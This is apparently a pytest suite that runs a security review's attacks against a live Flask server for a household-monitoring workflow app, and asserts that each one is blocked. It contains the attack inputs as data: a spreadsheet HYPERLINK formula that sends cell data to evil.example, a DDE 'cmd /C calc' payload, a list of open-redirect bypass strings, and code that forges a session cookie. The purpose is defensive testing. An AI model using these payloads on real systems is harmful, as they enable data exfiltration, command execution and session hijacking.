"""The security review's attacks, one test each, against the real web application served on a loopback port
(werkzeug's server in a thread, ``urllib``-free raw HTTP through ``http.client`` so that redirects are never
followed and every header goes through the real latin-1 encoding of a server)."""
from __future__ import annotations

import csv
import html
import io
import json
import re
import threading
import uuid
import zipfile
from collections.abc import Iterator
from datetime import date, datetime
from http.client import HTTPConnection
from http.cookies import SimpleCookie
from pathlib import Path
from typing import Any
from urllib.parse import quote, urljoin, urlsplit

import pytest
from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from openpyxl import load_workbook
from SpiffWorkflow.exceptions import WorkflowException
from sqlalchemy import select
from sqlalchemy.orm.exc import StaleDataError

from engine.accounts.api_tokens import issue_token
from engine.bpmn import scripting
from engine.bpmn.source import DiagramSource
from engine.cases import runs
from engine.cases.lifecycle import open_identification
from engine.core.config import REPO_ROOT
from engine.core.db import db
from engine.core.models import Household, HumanTask, User
from engine.core.transaction import CONFLICT_MESSAGE
from engine.demo import drive_case
from engine.households.register import register_household
from engine.library.drafts import save_draft
from tests.bdd.officials import household_data
from tests.webclient import serve
from web import create_app
from web.security import CONTENT_SECURITY_POLICY, DB_UNAVAILABLE, MAX_ID, ConfigurationError

FIRST_STEP = "受理申请并签署承诺授权书"
APPLY = {"applied_on": "2026-09-20", "all_members_signed": True, "risk_description": "户主因病住院"}
TOO_BIG = str(2**64)  # above any BIGINT
JUST_ABOVE = str(MAX_ID + 1)  # 2^63: 19 digits, one more than SQLite and PostgreSQL can store
GOOD_KEY = "0123456789abcdef" * 4


# -- a live server and a client that follows nothing ----------------------------------------------------


@pytest.fixture
def live(web_app: Flask) -> Iterator[str]:
    with serve(web_app) as base:
        yield base


class Answer:
    def __init__(self, status: int, headers, body: bytes) -> None:
        self.status, self.headers, self.body = status, headers, body

    @property
    def text(self) -> str:
        return self.body.decode("utf-8", "replace")

    def json(self) -> Any:
        return json.loads(self.body)

    def header(self, name: str) -> str:
        return self.headers.get(name) or ""


class Browser:
    """Cookies kept, redirects never followed; every request on its own connection."""

    def __init__(self, base: str) -> None:
        self.base = base
        parts = urlsplit(base)
        self.host, self.port = parts.hostname, parts.port
        self.cookies: dict[str, str] = {}

    def request(self, method: str, path: str, body: bytes | None = None, headers: dict[str, str] | None = None,
                content_length: int | None = None) -> Answer:
        connection = HTTPConnection(self.host, self.port, timeout=60)
        try:
            sent = dict(headers or {})
            if self.cookies:
                sent["Cookie"] = "; ".join(f"{k}={v}" for k, v in self.cookies.items())
            if content_length is not None:  # announce a body without sending it (the server must refuse first)
                connection.putrequest(method, path)
                for name, value in {**sent, "Content-Length": str(content_length)}.items():
                    connection.putheader(name, value)
                connection.endheaders()
            else:
                connection.request(method, path, body=body, headers=sent)
            response = connection.getresponse()
            answer = Answer(response.status, response.headers, response.read())
        finally:
            connection.close()
        for raw in answer.headers.get_all("Set-Cookie") or []:
            cookie = SimpleCookie()
            cookie.load(raw)
            for name, morsel in cookie.items():
                self.cookies[name] = morsel.value
        return answer

    def get(self, path: str, **kwargs) -> Answer:
        return self.request("GET", path, **kwargs)

    def post_form(self, path: str, data: dict[str, str], **kwargs) -> Answer:
        body = "&".join(f"{quote(k)}={quote(str(v))}" for k, v in data.items()).encode()
        return self.request("POST", path, body=body,
                            headers={"Content-Type": "application/x-www-form-urlencoded", **kwargs.pop("headers", {})},
                            **kwargs)

    def post_multipart(self, path: str, fields: dict[str, str], files: dict[str, tuple[str, bytes]]) -> Answer:
        boundary = uuid.uuid4().hex
        out = io.BytesIO()
        for name, value in fields.items():
            out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'.encode())
        for name, (file_name, content) in files.items():
            out.write(f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"; filename="{file_name}"\r\n'
                      f"Content-Type: application/octet-stream\r\n\r\n".encode())
            out.write(content + b"\r\n")
        out.write(f"--{boundary}--\r\n".encode())
        return self.request("POST", path, body=out.getvalue(),
                            headers={"Content-Type": f"multipart/form-data; boundary={boundary}"})

    def post_json(self, path: str, data: Any = None, raw: bytes | None = None, headers: dict | None = None) -> Answer:
        body = raw if raw is not None else json.dumps(data).encode()
        return self.request("POST", path, body=body, headers={"Content-Type": "application/json", **(headers or {})})

    def csrf(self, path: str = "/login") -> str:
        match = re.search(r'name="csrf_token" value="([^"]+)"', self.get(path).text)
        assert match, f"{path} has no CSRF token"
        return match.group(1)

    def login(self, username: str, next_path: str | None = None) -> Answer:
        url = "/login" + (f"?next={next_path}" if next_path is not None else "")
        answer = self.post_form(url, {"username": username, "password": "demo", "csrf_token": self.csrf()})
        assert answer.status == 302, answer.text
        return answer


def logged_in(base: str, username: str) -> Browser:
    browser = Browser(base)
    browser.login(username)
    return browser


def bearer(app: Flask, username: str, clock) -> dict[str, str]:
    with app.app_context():
        user = db.session.scalar(select(User).filter_by(username=username))
        return {"Authorization": f"Bearer {issue_token(user, '安全测试', clock.now())}"}


def open_case(app: Flask, clock, head: str = "安全户") -> tuple[int, int]:
    """A new identification in 沙河村: (case id, id of its first ready task)."""
    with app.app_context():
        household = register_household(household_data("沙河村", head, 2), "shahe_cun", clock)
        case_id = open_identification(household.id, "self_application", date(2026, 9, 20), "shahe_cun", clock).id
        task_id = db.session.scalar(select(HumanTask.id).filter_by(case_id=case_id, name=FIRST_STEP, state="READY"))
    return case_id, task_id


def app_config(db_path: Path, clock, **extra: Any) -> dict[str, Any]:
    """The test configuration without its fixed SECRET_KEY and TESTING (as a real deployment starts)."""
    return {"SQLALCHEMY_DATABASE_URI": f"sqlite:///{db_path}", "FANGPIN_CLOCK_OBJECT": clock,
            "RATELIMIT_ENABLED": False, "FANGPIN_SCHEMA": "create_all", **extra}


# -- 1. forged sessions -----------------------------------------------------------------------------------


def test_a_session_signed_with_the_old_placeholder_key_opens_nothing(web_app, db_path, clock, monkeypatch):
    monkeypatch.delenv("SECRET_KEY", raising=False)
    for weak in (None, "dev-only-change-me", "short-key"):
        if weak is not None:
            monkeypatch.setenv("SECRET_KEY", weak)
        with pytest.raises(ConfigurationError) as refused:
            create_app(app_config(db_path, clock, FANGPIN_CLOCK="system"))
        assert "SECRET_KEY" in str(refused.value) and "secrets.token_hex(32)" in str(refused.value)
    monkeypatch.setenv("SECRET_KEY", GOOD_KEY)
    assert create_app(app_config(db_path, clock, FANGPIN_CLOCK="system")).secret_key == GOOD_KEY

    monkeypatch.delenv("SECRET_KEY")
    demo = create_app(app_config(db_path, clock, FANGPIN_CLOCK="demo"))  # demo mode starts, with a random key
    with web_app.app_context():
        editor_id = db.session.scalar(select(User.id).filter_by(username="jiangxi_zhengce"))

    def forged(key: str) -> str:
        signer = Flask("forger")
        signer.secret_key = key
        return SecureCookieSessionInterface().get_signing_serializer(signer).dumps({"user_id": editor_id})

    with serve(demo) as base:
        attacker = Browser(base)
        attacker.cookies["session"] = forged("dev-only-change-me")
        assert attacker.get("/api/me").status == 401
        attacker.cookies["session"] = forged(demo.secret_key)  # the same forgery with the real key works:
        assert attacker.get("/api/me").json()["username"] == "jiangxi_zhengce"  # the test forges correctly


# -- 2. stored XSS through diagram XML --------------------------------------------------------------------


def test_diagram_and_draft_xml_are_downloaded_never_rendered(web_app, live, clock):
    case_id, _ = open_case(web_app, clock)
    cadre = logged_in(live, "shahe_cun")
    answer = cadre.get(f"/cases/{case_id}/diagram.bpmn")
    assert answer.status == 200 and answer.body == (REPO_ROOT / "processes" / "identification.bpmn").read_bytes()
    assert answer.header("Content-Disposition").startswith("attachment;")
    assert answer.header("X-Content-Type-Options") == "nosniff"

    editor = logged_in(live, "jiangxi_zhengce")
    name = "识别纳入（草稿）.bpmn"
    content = (REPO_ROOT / "processes" / "identification.bpmn").read_bytes()
    saved = editor.post_multipart("/diagrams/upload", {"csrf_token": editor.csrf("/diagrams"), "action": "draft"},
                                  {"diagram": (name, content)})
    assert saved.status == 302, saved.text
    draft_url = urlsplit(saved.header("Location")).path
    for url in (f"{draft_url}/download", f"{draft_url}/download?inline=1"):
        answer = editor.get(url)
        assert answer.status == 200 and answer.body == content
        disposition = answer.header("Content-Disposition")
        assert disposition.startswith("attachment;") and f"filename*=UTF-8''{quote(name, safe='')}" in disposition
        assert answer.header("X-Content-Type-Options") == "nosniff"
    page = editor.get(f"{draft_url}/modeler").text  # the modeler fetches the download URL itself
    xml_url = re.search(r'data-xml="([^"]+)"', page).group(1)
    assert editor.get(xml_url).body == content
    library = editor.get("/diagrams").text
    file_url = re.search(r'href="(/diagrams/files/[0-9a-f]{64})"', library).group(1)
    for url in (file_url, f"{file_url}?inline=1"):
        answer = editor.get(url)
        assert answer.status == 200 and answer.header("Content-Disposition").startswith("attachment;")
        assert answer.header("X-Content-Type-Options") == "nosniff"


# -- 3. headers on every response -------------------------------------------------------------------------

INLINE_SCRIPT = re.compile(r"<script(?![^>]*\bsrc=)[^>]*>", re.IGNORECASE)
EVENT_HANDLER = re.compile(r"<[^>]+\son[a-z]+\s*=", re.IGNORECASE)


def test_every_response_carries_the_security_headers_and_the_cookie_flags(web_app, live, db_path, clock,
                                                                          monkeypatch):
    browser = Browser(live)
    for path in ("/login", "/static/app.css", "/vendor/bpmn-js/bpmn-navigated-viewer.production.min.js",
                 "/api/openapi.json", "/no-such-page", "/api/no-such-thing"):
        answer = browser.get(path)
        assert answer.header("Content-Security-Policy") == CONTENT_SECURITY_POLICY, path
        assert answer.header("X-Frame-Options") == "DENY", path
        assert answer.header("X-Content-Type-Options") == "nosniff", path
        assert answer.header("Referrer-Policy") == "same-origin", path
    policy = dict(part.strip().split(" ", 1) for part in CONTENT_SECURITY_POLICY.split(";"))
    assert policy["script-src"] == "'self'" and policy["frame-ancestors"] == "'none'"
    assert policy["object-src"] == "'none'" and "unsafe-eval" not in CONTENT_SECURITY_POLICY
    for template in (REPO_ROOT / "web" / "templates").rglob("*.html"):  # what script-src 'self' needs
        html = template.read_text(encoding="utf-8")
        assert not INLINE_SCRIPT.search(html), f"inline <script> in {template}"
        assert not EVENT_HANDLER.search(html), f"inline event handler in {template}"
        assert "javascript:" not in html, template

    cookie = browser.login("shahe_cun").header("Set-Cookie")
    assert "session=" in cookie and "SameSite=Lax" in cookie and "HttpOnly" in cookie and "Secure" not in cookie

    monkeypatch.setenv("SECRET_KEY", GOOD_KEY)
    monkeypatch.setenv("FANGPIN_HTTPS", "1")
    with serve(create_app(app_config(db_path, clock, FANGPIN_CLOCK="system"))) as base:
        cookie = Browser(base).login("shahe_cun").header("Set-Cookie")
    assert "SameSite=Lax" in cookie and "; Secure" in cookie


# -- 4. formula injection in the ledger ---------------------------------------------------------------------

EVIL_HEAD = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
EVIL_GROUP, EVIL_HELPER = "@SUM(1+1)*cmd|' /C calc'!A0", "+1-1"


def test_spreadsheet_cells_that_look_like_formulas_stay_text(web_app, live, clock):
    with web_app.app_context():
        data = household_data("沙河村", EVIL_HEAD, 3, group_name=EVIL_GROUP)
        household = register_household(data, "shahe_cun", clock)
        drive_case(open_identification(household.id, "self_application", date(2026, 9, 20), "shahe_cun", clock).id,
                   clock)
        db.session.get(Household, household.id).responsible_person = EVIL_HELPER
        db.session.commit()
    cadre = logged_in(live, "shahe_cun")

    answer = cadre.get("/ledger.xlsx")
    assert answer.status == 200 and "filename*=UTF-8''" in answer.header("Content-Disposition")
    sheet_xml = zipfile.ZipFile(io.BytesIO(answer.body)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere in the workbook
    sheet = load_workbook(io.BytesIO(answer.body))["监测台账"]
    headers = [c.value for c in sheet[3]]
    cells = dict(zip(headers, next(sheet.iter_rows(min_row=4)), strict=True))
    for column, value in (("户主", EVIL_HEAD), ("组", EVIL_GROUP), ("帮扶责任人", EVIL_HELPER)):
        assert cells[column].value == value and cells[column].data_type == "s", column
    assert cells["家庭人口数"].value == 3 and cells["家庭人口数"].data_type == "n"  # numbers stay numbers
    assert isinstance(cells["纳入监测日期"].value, datetime)  # and dates stay dates

    answer = cadre.get("/ledger.csv")
    assert answer.status == 200 and "filename*=UTF-8''" in answer.header("Content-Disposition")
    rows = list(csv.reader(io.StringIO(answer.body.decode("utf-8-sig"))))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert (row["户主"], row["组"], row["帮扶责任人"]) == (f"'{EVIL_HEAD}", f"'{EVIL_GROUP}", f"'{EVIL_HELPER}")
    assert row["家庭人口数"] == "3" and re.fullmatch(r"\d{4}-\d{2}-\d{2}", row["纳入监测日期"])


# -- 5. open redirect after logging in ----------------------------------------------------------------------


@pytest.mark.parametrize("next_path", ["/%09/evil.example", "//evil.example", "/%5Cevil.example", "%5C%5Cevil.example",
                                       "/%0d%0a/evil.example", "https://evil.example/", "/%09%09/evil.example/x",
                                       "javascript:alert(1)"])
def test_next_after_logging_in_never_leaves_the_site(live, next_path):
    location = Browser(live).login("shahe_cun", next_path).header("Location")
    target = urlsplit(urljoin(live + "/login", location))
    assert (target.netloc, target.path) == (urlsplit(live).netloc, "/inbox"), location
    same_site = Browser(live).login("shahe_cun", quote("/cases?status=running", safe="")).header("Location")
    assert urljoin(live + "/login", same_site) == live + "/cases?status=running"


# -- 6. size limits --------------------------------------------------------------------------------------------


def test_request_bodies_are_limited_with_a_chinese_answer(web_app, live, clock):
    from engine.library.deploying import MAX_DIAGRAM_BYTES
    from web.warnings import MAX_UPLOAD

    limit = web_app.config["MAX_CONTENT_LENGTH"]
    assert limit == 8 * 1024 * 1024 and limit > MAX_UPLOAD + 64 * 1024 and limit > MAX_DIAGRAM_BYTES
    department = logged_in(live, "zhanggong_yibao")
    answer = department.request("POST", "/warnings/upload", content_length=limit + 1,
                                headers={"Content-Type": "multipart/form-data; boundary=x"})
    assert answer.status == 413 and "提交的内容过大" in answer.text and "8 MB" in answer.text
    answer = Browser(live).request("POST", "/api/cases", content_length=limit + 1,
                                   headers={"Content-Type": "application/json", **bearer(web_app, "shahe_cun", clock)})
    assert answer.status == 413 and "8 MB" in answer.json()["error"] and answer.json()["code"] == "413"
    big = b"\xe5\xa7\x93\xe5\x90\x8d\n" + b"x" * (MAX_UPLOAD + 1024)  # a 5 MB file still reaches the page's check
    answer = department.post_multipart("/warnings/upload", {"csrf_token": department.csrf("/warnings/upload"),
                                                            "department": "medical", "period": "2026-Q3"},
                                       {"file": ("big.csv", big)})
    assert answer.status == 422 and "文件超过 5 MB" in answer.text


# -- 7. malformed input ---------------------------------------------------------------------------------------


def test_malformed_input_is_refused_in_chinese_not_a_500(web_app, live, clock):
    _, task_id = open_case(web_app, clock)
    api = Browser(live)
    token = bearer(web_app, "shahe_cun", clock)
    with web_app.app_context():
        household_id = db.session.scalar(select(Household.id).where(Household.number.is_not(None)))
    for channel in ({}, [], {"a": 1}):
        answer = api.post_json("/api/cases", {"household_id": household_id, "channel": channel,
                                              "lead_date": "2026-09-20"}, headers=token)
        assert answer.status == 422 and "channel" in {f["field"] for f in answer.json()["fields"]}
    for path in (f"/api/tasks/{TOO_BIG}/form", f"/api/tasks/{JUST_ABOVE}/form", f"/api/cases/{TOO_BIG}",
                 f"/api/cases/{JUST_ABOVE}/deadlines", f"/api/households/{TOO_BIG}",
                 f"/api/warnings/batches/{JUST_ABOVE}", f"/api/households?number={TOO_BIG}", f"/api/cases/{MAX_ID}"):
        answer = api.get(path, headers=token)
        assert answer.status == 404 and "不存在" in answer.json()["error"], path
    answer = api.get(f"/api/households?number={'9' * 5000}", headers=token)
    assert answer.status == 422 and answer.json()["fields"][0]["reason"] == "户编号过长"
    answer = api.post_json(f"/api/tasks/{TOO_BIG}/claim", {}, headers=token)
    assert answer.status == 404
    for body in (b"[" * 100_000 + b"]" * 100_000, json.dumps(_nested(50)).encode()):
        answer = api.post_json("/api/cases", raw=body, headers=token)
        assert answer.status == 422 and "嵌套" in answer.json()["fields"][0]["reason"]
    answer = api.post_json(f"/api/tasks/{task_id}/complete", APPLY, headers={**token, "If-Match": "9" * 5000})
    assert answer.status == 422 and answer.json()["fields"][0]["field"] == "If-Match"
    for query in (f"limit={'9' * 5000}", "limit=%C2%B2", f"after=2026-09-20T00:00:00%7C{'9' * 30}"):
        answer = api.get(f"/api/tasks?{query}", headers=token)
        assert answer.status == 422 and answer.json()["fields"], query[:40]

    county = logged_in(live, "zhanggong_xian")
    for path in (f"/tasks/{TOO_BIG}", f"/cases/{JUST_ABOVE}", f"/cases/{TOO_BIG}/diagram.bpmn",
                 f"/households/{JUST_ABOVE}/form", f"/warnings/batches/{TOO_BIG}"):
        answer = county.get(path)
        assert answer.status == 404 and "页面不存在" in answer.text, path
    for path in ("/inbox?after=not-a-cursor", f"/inbox?after=2026-09-20T00:00:00%7C{TOO_BIG}",
                 f"/cases?after={TOO_BIG}", "/cases?after=%C2%B2"):
        assert county.get(path).status == 200, path
    cadre = logged_in(live, "shahe_cun")
    answer = cadre.post_form(f"/tasks/{task_id}", {**_form(APPLY), "seen_version": "9" * 5000,
                                                   "csrf_token": cadre.csrf(f"/tasks/{task_id}"),
                                                   f"risk_types-{'9' * 5000}-x": "1"})
    assert answer.status in (302, 409), answer.text  # a bad version number is no version at all: never a 500
    editor = logged_in(live, "jiangxi_zhengce")
    answer = editor.get(f"/diagrams/versions/1/migration?case={TOO_BIG}")
    assert answer.status == 404 and "页面不存在" in answer.text


def _nested(depth: int) -> dict:
    node: dict = {"household_id": 1}
    for _ in range(depth):
        node = {"application": node}
    return node


def _form(data: dict) -> dict[str, str]:
    return {k: ("on" if v is True else str(v)) for k, v in data.items()}


# -- 8 and 11. the database is down; a plain postgresql:// URL -----------------------------------------------


def test_a_database_that_does_not_answer_is_a_503_and_a_plain_postgresql_url_works(clock, tmp_path, monkeypatch):
    monkeypatch.setenv("DATABASE_URL", "postgresql://fangpin:secret@127.0.0.1:1/fangpin")  # README's form; nothing there
    monkeypatch.setenv("FANGPIN_INSTANCE", str(tmp_path))
    monkeypatch.setenv("SECRET_KEY", GOOD_KEY)
    app = create_app({"FANGPIN_CLOCK_OBJECT": clock, "RATELIMIT_ENABLED": False, "FANGPIN_CLOCK": "system"})
    with app.app_context():
        engine = db.engine  # created with the installed driver: no "No module named 'psycopg'"
        assert (engine.dialect.name, engine.dialect.driver) == ("postgresql", "psycopg2")
    with serve(app) as base:
        official = Browser(base)
        answer = official.post_form("/login", {"username": "shahe_cun", "password": "demo",
                                               "csrf_token": official.csrf()})
        assert answer.status == 503 and DB_UNAVAILABLE in answer.text and answer.header("Retry-After")
        answer = Browser(base).get("/api/me", headers={"Authorization": "Bearer fp_whatever"})
        assert answer.status == 503 and answer.json()["error"] == DB_UNAVAILABLE


# -- 9. a lost race ------------------------------------------------------------------------------------------


def test_a_completion_that_loses_a_race_inside_the_workflow_answers_409(web_app, live, clock, monkeypatch):
    """A script or condition of the diagram autoflushes the case another official has just saved: SpiffWorkflow
    wraps the StaleDataError in its own error (only as ``__context__``)."""
    _, task_id = open_case(web_app, clock)
    real_advance = runs.advance

    def losing_advance(workflow, clk):
        try:
            raise StaleDataError("UPDATE statement on table 'cases' expected to update 1 row(s); 0 were matched.")
        except StaleDataError:  # as SpiffWorkflow does: the StaleDataError is only the new error's __context__
            raise WorkflowException("Error evaluating expression 'household_size() > 0'")

    monkeypatch.setattr(runs, "advance", losing_advance)
    answer = Browser(live).post_json(f"/api/tasks/{task_id}/complete", APPLY, headers=bearer(web_app, "shahe_cun", clock))
    assert answer.status == 409 and answer.json()["code"] == "conflict", answer.text
    assert answer.json()["error"] == CONFLICT_MESSAGE and "StaleDataError" not in answer.text
    cadre = logged_in(live, "shahe_cun")
    answer = cadre.post_form(f"/tasks/{task_id}", {**_form(APPLY), "csrf_token": cadre.csrf(f"/tasks/{task_id}")})
    assert answer.status == 409 and CONFLICT_MESSAGE in answer.text and "流程执行出错" not in answer.text
    monkeypatch.setattr(runs, "advance", real_advance)
    answer = Browser(live).post_json(f"/api/tasks/{task_id}/complete", APPLY, headers=bearer(web_app, "shahe_cun", clock))
    assert answer.status == 200  # nothing was saved by the lost attempts: the task is still there to complete


# -- 2. a diagram's code being stopped does not stop the server -------------------------------------------------


def test_the_server_answers_others_while_a_diagrams_endless_loop_is_being_stopped(web_app, live, clock, monkeypatch):
    monkeypatch.setattr(scripting, "TIME_LIMIT_SECONDS", 1.0)
    source = (REPO_ROOT / "processes" / "identification.bpmn").read_text(encoding="utf-8")
    looping = source.replace("<bpmn:script>facts = assess_household(", "<bpmn:script>n = 0\nwhile True:\n    n = n + 1\n"
                             "facts = assess_household(", 1)
    assert looping != source
    with web_app.app_context():
        editor = db.session.scalar(select(User).filter_by(username="jiangxi_zhengce"))
        draft_id = save_draft(editor, DiagramSource("identification.bpmn", looping.encode()), "死循环", clock).id
    checking, other = logged_in(live, "jiangxi_zhengce"), Browser(live)
    answers: dict[str, Answer] = {}
    slow = threading.Thread(target=lambda: answers.update(check=checking.get(f"/diagrams/drafts/{draft_id}?check=1")))
    slow.start()
    served_meanwhile = 0
    while slow.is_alive() and served_meanwhile < 50:
        if other.get("/login").status == 200 and slow.is_alive():
            served_meanwhile += 1
    slow.join(timeout=60)
    assert served_meanwhile > 0  # other clients were answered while the loop ran
    page = html.unescape(answers["check"].text)  # refused, naming the element and the limit
    assert "scriptTask 'assess'" in page and "测算收入并比对监测范围" in page and "超过" in page
